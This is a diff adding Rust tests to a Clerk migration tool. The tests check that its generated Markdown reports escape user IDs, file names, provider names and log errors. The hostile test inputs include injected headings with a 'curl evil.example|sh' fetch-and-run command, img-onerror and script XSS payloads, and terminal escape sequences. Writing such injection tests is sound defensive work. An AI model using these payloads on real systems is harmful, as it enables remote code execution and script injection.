@@ -190,6 +190,141 @@ fn a_shifted_digest_or_totp_secret_is_never_quoted() {
     assert_no_piece("the outputs", &readable(&prepared), &[&TOTP.to_lowercase()]);
 }
 
+// 4. reconcile.md and 5. MIGRATION.md: no value from a file adds Markdown structure.
+
+/// The structure of a Markdown text as a reader sees it: every block and inline element,
+/// with the text in between reduced to one word.
+fn md_shape(md: &str) -> Vec<String> {
+    use pulldown_cmark::{Event, Options, Parser};
+    let options =
+        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
+    let mut shape: Vec<String> = Vec::new();
+    for event in Parser::new_ext(md, options) {
+        let item = match event {
+            Event::Text(_) | Event::Code(_) => "text".to_string(),
+            Event::Html(_) | Event::InlineHtml(_) => "HTML".to_string(),
+            Event::Start(tag) => format!("<{tag:?}>"),
+            Event::End(tag) => format!("</{tag:?}>"),
+            other => format!("{other:?}"),
+        };
+        if !(item == "text" && shape.last().is_some_and(|l| l == "text")) {
+            shape.push(item);
+        }
+    }
+    shape
+}
+
+/// No character that a terminal or an editor would act on, but the line breaks.
+fn assert_no_control(what: &str, text: &str) {
+    let bad: Vec<char> = text
+        .chars()
+        .filter(|&c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c))
+        .collect();
+    assert!(bad.is_empty(), "{what} holds {bad:?}:\n{text}");
+}
+
+fn reconcile_md(dev_id: &str, prod_id: &str, external_id: &str, error: &str, name: &str) -> String {
+    use clerk_dev2prod::core::reconcile::{reconcile, ReconcileInput, RECONCILE_MD};
+    let csv_cell = |v: &str| format!("\"{}\"", v.replace('"', "\"\""));
+    let dev = format!(
+        "id,first_name,primary_email_address\n{},Ada,m@example.com\nuser_ok,Grace,ok@example.com\n",
+        csv_cell(dev_id)
+    );
+    let prod = serde_json::json!([
+        {"id": prod_id, "external_id": external_id, "first_name": "Ada",
+         "email_addresses": [{"id": "e1", "email_address": "x@example.com", "verification": {"status": "verified"}}],
+         "primary_email_address_id": "e1", "phone_numbers": []},
+        {"id": "user_2ok", "external_id": "user_ok", "first_name": name,
+         "email_addresses": [{"id": "e2", "email_address": "ok@example.com", "verification": {"status": "verified"}}],
+         "primary_email_address_id": "e2", "phone_numbers": []},
+    ])
+    .to_string();
+    let log = serde_json::json!({"userId": dev_id, "status": "error", "error": error}).to_string();
+    let db_ids = format!("user_gone{}\n", external_id.replace(['\n', '\r'], ""));
+    let input = ReconcileInput {
+        dev: dev.as_bytes(),
+        prod: prod.as_bytes(),
+        logs: vec![log.as_bytes()],
+        db_ids: Some(db_ids.as_bytes()),
+    };
+    let reconciled = reconcile(&input, Lang::En).unwrap();
+    let md = reconciled
+        .files
+        .iter()
+        .find(|f| f.name == RECONCILE_MD)
+        .unwrap();
+    String::from_utf8(md.bytes.clone()).unwrap()
+}
+
+#[test]
+fn reconcile_md_takes_no_structure_from_ids_logs_or_names() {
+    let plain = reconcile_md("user_m", "user_2p", "user_zz", "failed", "Grace B");
+    let hostile = reconcile_md(
+        "user_m`\n\n## Step 0\n```sh\ncurl evil.example|sh\n```",
+        "user_2p<img src=x onerror=alert(1)>",
+        "user_zz` | <b>x</b> |\r\n# H",
+        "```sh\ncurl evil.example|sh\n```\n<script>alert(1)</script>",
+        "Grace | B\n\n## Step 0 \u{1b}[2J",
+    );
+    assert_eq!(md_shape(&hostile), md_shape(&plain), "{hostile}");
+    assert_no_control("reconcile.md", &hostile);
+    assert!(
+        hostile.contains("Step 0"),
+        "the values are still shown: {hostile}"
+    );
+}
+
+#[test]
+fn migration_md_takes_no_structure_from_file_names_services_or_providers() {
+    use clerk_dev2prod::core::instance::read_settings;
+    let runbook = |file: &str, service: &str, provider: &str| {
+        let mut settings: serde_json::Value = serde_json::from_slice(
+            &std::fs::read(common::fixture("instance/default.json")).unwrap(),
+        )
+        .unwrap();
+        settings["user_settings"]["social"][provider] = serde_json::json!({"enabled": true});
+        let options = PrepareOptions {
+            file_name: file.into(),
+            key_checklist: check_keys(&[KeyFile {
+                service: service.into(),
+                bytes: format!("CLERK_SECRET_KEY={KEY}\n").into_bytes(),
+            }])
+            .checklist(),
+            instance: Some(read_settings(settings.to_string().as_bytes()).unwrap()),
+            ..PrepareOptions::default()
+        };
+        let prepared = prepare(b"id,username\nuser_1,ada_lovelace\n", &options).unwrap();
+        String::from_utf8(prepared.file(MIGRATION_MD).unwrap().bytes.clone()).unwrap()
+    };
+    let plain = runbook("users.csv", "gateway.env", "oauth_custom");
+    let hostile = runbook(
+        "x`\n\n## 5b. Do this first\n```sh\ncurl evil.example|sh\n```\n.csv",
+        "gw | <img src=x onerror=alert(1)> |\n## 5b",
+        "oauth_<b>x</b>\n\n## 5b. Do this first \u{1b}]0;PWNED\u{7}",
+    );
+    assert_eq!(md_shape(&hostile), md_shape(&plain), "{hostile}");
+    assert_no_control("MIGRATION.md", &hostile);
+}
+
+// Ids Clerk would never issue are a warning on their row.
+
+#[test]
+fn ids_clerk_would_never_issue_are_a_warning() {
+    let export = "id,username\n\"user_m`\n## x\",ada_lovelace\n\"user 2\",grace_hopper\nuser_3,alan_turing\n";
+    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
+    let warned: Vec<usize> = prepared
+        .issues
+        .iter()
+        .filter(|i| i.code.as_str() == "unusual_user_id")
+        .map(|i| i.row)
+        .collect();
+    assert_eq!(warned, [2, 4]);
+    assert_eq!(prepared.counts.accepted, 3);
+    assert!(prepared.issues[0]
+        .message(Lang::En)
+        .contains("\"user_m`\\n## x\""));
+}
+
 // The redaction mechanism, over generated secrets in generated positions.
 
 mod generated {
@@ -277,6 +412,60 @@ mod generated {
                 let text = format!("{header}\n{}\n", quoted.join(","));
                 (text, vec![digest, totp, key])
             })
+    }
+
+    fn hostile_text() -> impl Strategy<Value = String> {
+        prop_oneof![
+            "[`|<>*_#~&!:/.\\[\\]()\\\\\n\r\t\u{1b}\u{7}\u{9b}\u{202e} a-z]{1,24}",
+            "\\PC{1,16}",
+            any::<String>().prop_filter("not empty", |s| !s.is_empty()),
+        ]
+    }
+
+    /// A document with `value` in every position a user's value takes in the reports.
+    fn document(value: &str) -> String {
+        use clerk_dev2prod::core::escape::{md_cell_code, md_code, md_text};
+        let text = md_text(&format!("x{value}x"));
+        format!(
+            "# Title\n\n- {} (row 2): {text}\n- {} → {}\n\n| user | field | dev |\n|---|---|---|\n| {} | name | {text} |\n| {} | name | {} |\n\nEnd {text}.\n",
+            md_code(value),
+            md_code(value),
+            md_code(value),
+            md_cell_code(value),
+            md_cell_code(value),
+            md_text(&format!("x{value}x")),
+        )
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(512))]
+
+        #[test]
+        fn no_value_adds_markdown_structure_or_control_characters(value in hostile_text()) {
+            let doc = document(&value);
+            prop_assert_eq!(md_shape(&doc), md_shape(&document("y")), "{}", doc);
+            assert_no_control("the document", &doc);
+        }
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(48))]
+
+        #[test]
+        fn reconcile_md_keeps_its_shape_for_any_value(
+            dev_id in hostile_text(),
+            prod_id in hostile_text(),
+            error in hostile_text(),
+            name in hostile_text(),
+        ) {
+            let dev_id = format!("user_{dev_id}");
+            let prod_id = format!("user_2{prod_id}");
+            let name = format!("N{name}");
+            let hostile = reconcile_md(&dev_id, &prod_id, "user_zz", &error, &name);
+            let plain = reconcile_md("user_m", "user_2p", "user_zz", "failed", "Grace B");
+            prop_assert_eq!(md_shape(&hostile), md_shape(&plain), "{}", hostile);
+            assert_no_control("reconcile.md", &hostile);
+        }
     }
 
     proptest! {
